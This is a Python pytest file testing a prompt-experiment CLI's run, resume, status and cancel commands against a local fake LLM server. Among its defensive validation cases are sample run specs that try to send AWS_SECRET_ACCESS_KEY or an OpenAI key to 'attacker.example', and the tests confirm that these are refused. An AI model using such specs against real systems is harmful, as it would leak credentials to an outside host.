"""`promptlab run / resume / status / cancel` against a real fakellm over HTTP."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from promptlab.cli import main
from promptlab.cli.run_text import progress_line
from promptlab.config import DEMO_DIR
from promptlab.engine import RunProgress
from promptlab.fakellm.server import FakeLLMConfig, RunningServer, serve_in_thread
from promptlab.store import ReadModels, RunStore, Store
from promptlab.workbench import Workbench

DEMO_SPEC = DEMO_DIR / "runs" / "triage-ab.yaml"


@pytest.fixture
def server() -> Iterator[RunningServer]:
    with serve_in_thread(FakeLLMConfig(port=0, latency_ms=5)) as running:
        yield running


def write_spec(tmp_path: Path, base_url: str, rows: int = 20, **extra: Any) -> Path:
    (tmp_path / "rows.jsonl").write_text("".join(f'{{"text": "row {i}"}}\n' for i in range(rows)))
    spec = {
        "name": "cli-test",
        "dataset": "rows.jsonl",  # relative to the spec file
        "variants": [
            {
                "name": "short",
                "messages": [{"role": "user", "content": "Summarize: {{ text }}"}],
                "model": "fake:gpt-4o-mini",
                "params": {"max_tokens": 16, "temperature": 0.2},
            },
            {
                "name": "long",
                "messages": [{"role": "user", "content": "Explain at length: {{ text }}"}],
                "model": "fake:gpt-4o-mini",
            },
        ],
        "endpoints": {"fake": {"kind": "openai", "base_url": base_url}},
        "limits": {"fake": {"rpm": 6000, "concurrency": 8}},
        "retry": {"max_attempts": 3, "timeout_s": 10},
        **extra,
    }
    path = tmp_path / "spec.yaml"
    path.write_text(yaml.safe_dump(spec))
    return path


def test_run_prints_the_id_then_a_summary_and_exits_0(
    tmp_path: Path, server: RunningServer, db_path: Path
) -> None:
    result = CliRunner().invoke(main, ["run", str(write_spec(tmp_path, server.openai_base_url))])
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].startswith("run run_")
    run_id = lines[0].split()[1]
    assert f"run {run_id}: completed" in result.stdout
    assert "succeeded 40, failed 0" in result.stdout
    assert server.stats()["successes"] == 40

    status = CliRunner().invoke(main, ["status"])
    assert status.exit_code == 0 and run_id in status.stdout and "40/40" in status.stdout
    detail = CliRunner().invoke(main, ["status", run_id])
    assert "completed" in detail.stdout and "succeeded=40" in detail.stdout
    with Store(db_path) as store:
        assert ReadModels(store).summary(run_id).succeeded == 40


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("variants: []\ndataset: rows.csv\n", "variants"),
        ("dataset: rows.txt\nvariants: [{messages: [{role: user, content: hi}]}]\n", ".csv"),
        ("dataset: missing.csv\nvariants: [{messages: [{role: user, content: hi}]}]\n", "missing"),
        ("dataset: rows.csv\nretry: {tries: 3}\nvariants: [{prompt: x}]\n", "retry"),
        ("dataset: rows.csv\nvariants: [{prompt: no-such-prompt}]\n", "no-such-prompt"),
        (
            "dataset: rows.csv\n"
            "variants: [{messages: [{role: user, content: hi}], model: nope:x}]\n",
            "unknown endpoint",
        ),
        # A pasted spec must not send a configured key, or any variable, to another host.
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\n"
            "endpoints: {openai: {base_url: 'http://127.0.0.1:9/v1'}}\n",
            "may not change base_url of a configured endpoint",
        ),
        # Nor change the shared budget every later run on that endpoint would get.
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\n"
            "endpoints: {sim: {rpm: 100000, concurrency: 500}}\n",
            "may not change concurrency, rpm of a configured endpoint",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\n"
            "endpoints: {leak: {kind: openai, base_url: 'http://127.0.0.1:9/v1',"
            " api_key_env: OPENAI_API_KEY}}\n",
            "endpoints.leak: a run spec cannot name a key",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\n"
            "endpoints: {leak: {kind: openai, base_url: 'https://attacker.example/v1',"
            " api_key_env: AWS_SECRET_ACCESS_KEY}}\n",
            "endpoints.leak: a run spec cannot name a key",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\n"
            "endpoints: {leak: {kind: openai, base_url: 'https://attacker.example/v1'}}\n",
            "endpoints.leak.base_url: attacker.example is not this machine",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\nendpoints: {x: {kind: openai,"
            " base_url: 5}}\n",
            "endpoints.x.base_url: expected a URL string, got 5",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\nretry: {timeout_s: .inf}\n",
            "retry.timeout_s: expected a finite number, got inf",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\nretry: {timeout_s: .nan}\n",
            "retry.timeout_s: expected a finite number, got nan",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x}]\nlimits: {sim: {burst_s: .nan}}\n",
            "limits.sim.burst_s: expected a positive number of seconds, got nan",
        ),
        (
            "dataset: rows.csv\nvariants: [{messages: [{role: user, content: hi}],"
            " model: 'sim:careful'}]\nlimits: {simm: {rpm: 5}}\n",
            "limits.simm: no endpoint of that name",
        ),
        (
            "dataset: rows.csv\nvariants: [{messages: [{role: user, content: hi}],"
            " model: 'sim:nosuchmodel'}]\n",
            "the simulator has no model 'nosuchmodel'",
        ),
        (
            "dataset: rows.csv\nvariants: [{prompt: x, params_from: {seed: col}}]\n",
            "params_from: map params (max_tokens, temperature, top_p) to dataset column",
        ),
        (
            "name: 123\ndataset: rows.csv\nvariants: [{prompt: x}]\n",
            "'name' must be a string, got 123",
        ),
        (
            "dataset: rows.csv\nrepeats: 100000000000\nvariants: [{prompt: x}]\n",
            "repeats: at most 1,000",
        ),
    ],
)
def test_a_bad_spec_exits_2_with_the_field_named(
    tmp_path: Path, content: str, message: str
) -> None:
    (tmp_path / "rows.csv").write_text("text\nhello\n")
    spec = tmp_path / "spec.yaml"
    spec.write_text(content)
    result = CliRunner().invoke(main, ["run", str(spec)])
    assert result.exit_code == 2, result.output
    assert message in result.stderr


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("rows.jsonl", b'{"text": "a"}\nnot json\n', "rows.jsonl, line 2: not valid JSON"),
        ("rows.jsonl", b'{"text": "a"}\n["a list"]\n', "line 2: expected a JSON object"),
        ("rows.jsonl", b'{"text": "a \\ud800 b"}\n', "line 1: contains an unpaired surrogate"),
        ("rows.csv", b"", "no header row"),
        ("rows.csv", b"text\n\xff\xfe\n", "not UTF-8"),
        # An open quote would swallow the rest of the file into one cell.
        (
            "rows.csv",
            b'text\nfine\n"never closed\nrow 3\nrow 4\n',
            "line 3: a quoted field is never",
        ),
    ],
)
def test_a_malformed_dataset_exits_2_before_any_run_exists(
    tmp_path: Path, db_path: Path, name: str, content: bytes, message: str
) -> None:
    (tmp_path / name).write_bytes(content)
    spec = tmp_path / "spec.yaml"
    spec.write_text(f"dataset: {name}\nvariants: [{{messages: [{{role: user, content: hi}}]}}]\n")
    result = CliRunner().invoke(main, ["run", str(spec)])
    assert result.exit_code == 2, result.output
    assert message in result.stderr and "Traceback" not in result.output
    with Store(db_path) as store:
        assert RunStore(store).list_runs(10) == []


def test_a_dataset_that_is_a_fifo_is_refused_instead_of_hanging(
    tmp_path: Path, db_path: Path
) -> None:
    os.mkfifo(tmp_path / "rows.csv")  # reading it would block until a writer comes
    spec = tmp_path / "spec.yaml"
    spec.write_text("dataset: rows.csv\nvariants: [{messages: [{role: user, content: hi}]}]\n")
    result = CliRunner().invoke(main, ["run", str(spec)])
    assert result.exit_code == 2, result.output
    assert "rows.csv: not a regular file" in result.stderr


def test_a_plan_over_the_item_ceiling_is_refused_before_a_run_exists(
    tmp_path: Path, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PROMPTLAB_MAX_ITEMS", "100")
    (tmp_path / "rows.csv").write_text("text\n" + "row\n" * 30)
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "dataset: rows.csv\nrepeats: 2\nvariants: [{messages: [{role: user, content: hi}]},"
        " {name: b, messages: [{role: user, content: ho}]}]\n"
    )
    result = CliRunner().invoke(main, ["run", str(spec)])
    assert result.exit_code == 2, result.output
    assert "120 items (30 rows x 2 variants x 2 repeats) is over the limit of 100" in (
        result.stderr
    )
    with Store(db_path) as store:
        assert RunStore(store).list_runs(10) == []


def test_a_key_theft_spec_is_refused_before_any_request(
    tmp_path: Path, server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The spec of the security report: a secret variable sent to the author's host."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-value-1234")
    spec = write_spec(tmp_path, server.openai_base_url)
    data = yaml.safe_load(spec.read_text())
    data["endpoints"]["fake"]["api_key_env"] = "AWS_SECRET_ACCESS_KEY"
    spec.write_text(yaml.safe_dump(data))
    result = CliRunner().invoke(main, ["run", str(spec)])
    assert result.exit_code == 2, result.output
    assert "a run spec cannot name a key" in result.stderr
    assert server.stats()["attempts"] == 0
    assert "aws-secret-value" not in result.output


def test_status_lists_failed_rows_with_their_reason(tmp_path: Path) -> None:
    assert CliRunner().invoke(main, ["init", "--demo"]).exit_code == 0
    (tmp_path / "rows.csv").write_text(
        "title,article,max_words\nA,Some text.,40\nB,More text.,many\n"
    )
    spec = tmp_path / "spec.yaml"
    spec.write_text("dataset: rows.csv\nvariants: [{prompt: article-summarizer@2.0.0}]\n")
    run = CliRunner().invoke(main, ["run", str(spec)])
    assert run.exit_code == 0, run.output
    run_id = run.stdout.split()[1]
    status = CliRunner().invoke(main, ["status", run_id])
    assert "failures: invalid_input=1" in status.stdout
    assert "dataset row 2 (article-summarizer@2.0.0)" in status.stdout
    assert "max_words: 'many' is not of type 'integer'" in status.stdout


def test_a_run_stopped_by_quota_exits_1_with_the_reason(tmp_path: Path) -> None:
    with serve_in_thread(FakeLLMConfig(port=0, quota_rate=1.0)) as quota_server:
        spec = write_spec(tmp_path, quota_server.openai_base_url)
        result = CliRunner().invoke(main, ["run", str(spec)])
    assert result.exit_code == 1, result.output
    assert "failed (stopped: quota" in result.stdout


def test_resume_keeps_the_first_start_and_shows_the_resumed_part_apart(
    tmp_path: Path, db_path: Path
) -> None:
    with serve_in_thread(FakeLLMConfig(port=0, quota_rate=1.0)) as quota_server:
        spec = write_spec(tmp_path, quota_server.openai_base_url)
        first = CliRunner().invoke(main, ["run", str(spec)])
        run_id = first.stdout.split()[1]
        with Workbench.open() as wb:
            started = wb.runs.view(run_id).run.started_at
        resumed = CliRunner().invoke(main, ["resume", run_id])
    assert resumed.exit_code == 1, resumed.output
    assert "from the first start (since the last resume " in resumed.stdout
    with Workbench.open() as wb:
        view = wb.runs.view(run_id)
    assert view.run.started_at == started and view.resumed
    assert view.wall_time_s is not None and view.last_part_s is not None
    assert view.wall_time_s > view.last_part_s


def test_status_shows_the_demo_ab_variants_side_by_side(db_path: Path, tmp_path: Path) -> None:
    assert CliRunner().invoke(main, ["init", "--demo"]).exit_code == 0
    # The demo spec without its 600-a-minute cap (7 s of waiting here; the Runs page's
    # test runs the file as it stands): the same variants, rows and checks.
    data = yaml.safe_load(DEMO_SPEC.read_text())
    data["dataset"] = str((DEMO_SPEC.parent / data["dataset"]).resolve())
    del data["limits"]
    spec = tmp_path / "triage-ab.yaml"
    spec.write_text(yaml.safe_dump(data))
    run = CliRunner().invoke(main, ["run", str(spec), "--quiet"])
    assert run.exit_code == 0, run.output
    run_id = run.stdout.split()[1]
    status = CliRunner().invoke(main, ["status", run_id])
    assert status.exit_code == 0, status.output
    lines = status.stdout.splitlines()
    header = next(i for i, line in enumerate(lines) if line.split()[:2] == ["variant", "model"])
    assert "p90 ms" in lines[header] and "complete" in lines[header]
    rows = [line.split() for line in lines[header + 1 : header + 3]]
    assert [r[0] for r in rows] == ["production", "staging"]
    assert all(r[1].startswith("sim:") for r in rows)
    assert [r[2] for r in rows] == ["40", "40"]
    # Complete means a usable output: the demo schema catches the broken ones.
    with Workbench.open() as wb:
        variants = wb.runs.view(run_id).variants
    assert [r[6] for r in rows] == [f"{v.completion_rate:.1%}" for v in variants]
    assert [r[7] for r in rows] == [f"{v.validity_rate:.1%}" for v in variants]


def test_progress_before_planning_says_so_instead_of_0_of_0() -> None:
    waiting = RunProgress(
        run_id="run_x",
        name="big",
        status="submitted",
        reason=None,
        active=True,
        total=0,
        pending=0,
        in_flight=0,
        succeeded=0,
        failed=0,
        cancelled=0,
        throughput_per_s=None,
        eta_s=None,
    )
    assert progress_line(waiting) == "planning big: reading the dataset"


def test_strict_exits_4_when_items_failed(tmp_path: Path) -> None:
    with serve_in_thread(FakeLLMConfig(port=0, context_window=20)) as small:
        spec = write_spec(tmp_path, small.openai_base_url, rows=3)
        result = CliRunner().invoke(main, ["run", str(spec), "--strict"])
    assert result.exit_code == 4, result.output
    assert "failed 6" in result.stdout


def test_resume_and_cancel_of_unknown_runs_fail_cleanly() -> None:
    for command in (["resume", "run_nope"], ["cancel", "run_nope"], ["status", "run_nope"]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 1
        assert "no run with id" in result.stderr


def test_every_run_command_has_help() -> None:
    for name in ("run", "resume", "status", "cancel"):
        command = main.commands[name]
        assert command.help and command.help.strip()
